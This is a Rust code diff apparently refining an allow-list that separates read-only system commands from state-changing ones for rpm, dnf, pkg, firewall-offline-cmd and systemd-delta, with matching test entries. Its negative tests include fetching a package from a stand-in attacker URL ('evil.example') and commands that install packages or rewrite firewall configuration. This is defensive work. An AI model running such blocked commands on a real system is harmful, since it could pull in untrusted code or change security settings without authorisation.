@@ -86,6 +86,13 @@ const RPM: Spec = Spec {
     long_valued: &["qf", "queryformat"],
     checked: &[("qf", tag_format), ("queryformat", tag_format)],
     required: &["q", "V", "query", "verify", "version", "querytags"],
+    // (No URL, no package file: an operand that names no installed
+    // package and ends in `.rpm` is opened as a package, a URL fetched;
+    // review 128.)
+    operands: Operands::Names {
+        at_most: 64,
+        test: |w| !w.contains("://") && !w.to_ascii_lowercase().ends_with(".rpm"),
+    },
     ..Spec::GNU
 };
 
@@ -481,20 +488,26 @@ const PKG_AUDIT: Spec = Spec {
     ..Spec::GNU
 };
 
+/// `pkg version` against the INDEX file (`-I`) or with the remote
+/// catalogue left as it is (`-U`). Not `-P`, nor `-R` or no source
+/// without `-U`: pkg tries INDEX, the ports tree, then the remote
+/// catalogue, which it refreshes from the internet unless `-U`, and `-R`
+/// wins over `-P` (review 128). (The ports tree's fallback runs `make
+/// -V` over the ports' own Makefiles, code the system holds, as `rpm -V`
+/// runs the packages' verify scripts.)
 const PKG_VERSION: Spec = Spec {
-    flags: "hIoPqRUv",
+    flags: "hIoqvRU",
     valued: "lLeEgxnO",
     long: &[
         "index",
         "origin",
-        "ports",
         "quiet",
         "remote",
         "no-repo-update",
         "verbose",
     ],
     long_valued: &["like", "not-like", "match", "glob", "regex"],
-    required: &["U", "I", "P", "no-repo-update", "index", "ports"],
+    required: &["I", "index", "U", "no-repo-update"],
     ..Spec::GNU
 };
 
@@ -661,6 +674,73 @@ const FIREWALL_CMD: Spec = Spec {
     ..Spec::GNU
 };
 
+/// firewall-offline-cmd(1): firewall-cmd's listings of the saved
+/// configuration, one required. Bare, it migrates
+/// system-config-firewall's settings, and `--service` without a service
+/// action is lokkit's, which adds the service to the default zone: both
+/// write the permanent configuration (review 128).
+const FIREWALL_OFFLINE: Spec = Spec {
+    long_valued: &[
+        "zone",
+        "policy",
+        "ipset",
+        "icmptype",
+        "helper",
+        "get-zone-of-interface",
+        "get-zone-of-source",
+        "get-policy-of-interface",
+        "query-service",
+        "query-port",
+        "query-protocol",
+        "query-source-port",
+        "query-rich-rule",
+        "query-icmp-block",
+        "query-interface",
+        "query-source",
+        "query-forward-port",
+        "query-entry",
+        "info-service",
+        "info-zone",
+        "info-ipset",
+        "info-icmptype",
+        "info-policy",
+        "info-helper",
+    ],
+    required: &[
+        "get-default-zone",
+        "get-zones",
+        "get-policies",
+        "get-services",
+        "get-icmptypes",
+        "get-ipsets",
+        "get-helpers",
+        "get-log-denied",
+        "list-all",
+        "list-all-zones",
+        "list-all-policies",
+        "list-services",
+        "list-ports",
+        "list-protocols",
+        "list-source-ports",
+        "list-rich-rules",
+        "list-forward-ports",
+        "list-interfaces",
+        "list-sources",
+        "list-icmp-blocks",
+        "query-masquerade",
+        "check-config",
+        "get-zone-of-interface",
+        "get-zone-of-source",
+        "query-service",
+        "query-port",
+        "info-service",
+        "info-zone",
+        "info-ipset",
+        "info-policy",
+    ],
+    ..FIREWALL_CMD
+};
+
 /// getenforce(8), sestatus(8) (`-v`, `-b`), getsebool(8).
 const SESTATUS: Spec = Spec {
     flags: "vb",
@@ -815,7 +895,10 @@ const OPNSENSE_VERSION: Spec = Spec {
 /// `Environment=` credentials among them (review 125).
 const SYSTEMD_DELTA: Spec = Spec {
     long: &["no-pager", "help", "version"],
-    long_valued: &["type", "diff"],
+    // (`--diff` takes its value only after `=`: `--diff false` turns the
+    // diffs on, `false` an operand; review 128.)
+    long_valued: &["type"],
+    long_optional: &["diff"],
     checked: &[("diff", |v| matches!(v, "false" | "no" | "0" | "off"))],
     required: &["diff"],
     ..Spec::GNU
@@ -852,6 +935,8 @@ pub(super) const ENTRIES: &[Entry] = &[
             "rpm -q --whatrequires openssl-libs",
         ],
         not: &[
+            "rpm -q http://evil.example/x.rpm",
+            "rpm -qi /tmp/x.rpm",
             "rpm -i x.rpm",
             "rpm -e nginx",
             "rpm -Uvh x.rpm",
@@ -877,9 +962,12 @@ pub(super) const ENTRIES: &[Entry] = &[
             "dnf -C repoquery --installed --whatrequires openssl-libs",
             "dnf repoquery -C --installed --qf '%{name}-%{version}'",
             "yum -C repolist",
+            "dnf list installed",
+            "dnf info --installed openssh-server",
         ],
         not: &[
-            "dnf list installed",
+            "dnf list --installed --available",
+            "dnf list",
             "dnf check-update",
             "dnf install nginx",
             "dnf -C install nginx",
@@ -953,6 +1041,8 @@ pub(super) const ENTRIES: &[Entry] = &[
             "pkg delete nginx",
             "pkg audit -F",
             "pkg version -vR",
+            "pkg version -vPR",
+            "pkg version --ports --remote",
             "pkg search nginx",
             "pkg lock nginx",
             "pkg lock -l nginx",
@@ -960,7 +1050,7 @@ pub(super) const ENTRIES: &[Entry] = &[
         ],
     },
     Entry {
-        names: &["firewall-cmd", "firewall-offline-cmd"],
+        names: &["firewall-cmd"],
         spec: &FIREWALL_CMD,
         read_only: &[
             "firewall-cmd --state",
@@ -981,6 +1071,20 @@ pub(super) const ENTRIES: &[Entry] = &[
             "firewall-cmd --runtime-to-permanent",
             "firewall-cmd --set-default-zone=drop",
             "firewall-cmd --rel",
+        ],
+    },
+    Entry {
+        names: &["firewall-offline-cmd"],
+        spec: &FIREWALL_OFFLINE,
+        read_only: &[
+            "firewall-offline-cmd --list-all",
+            "firewall-offline-cmd --zone=public --list-services",
+        ],
+        not: &[
+            "firewall-offline-cmd",
+            "firewall-offline-cmd --service=http",
+            "firewall-offline-cmd --service=http --list-all",
+            "firewall-offline-cmd --add-service=http",
         ],
     },
     Entry {
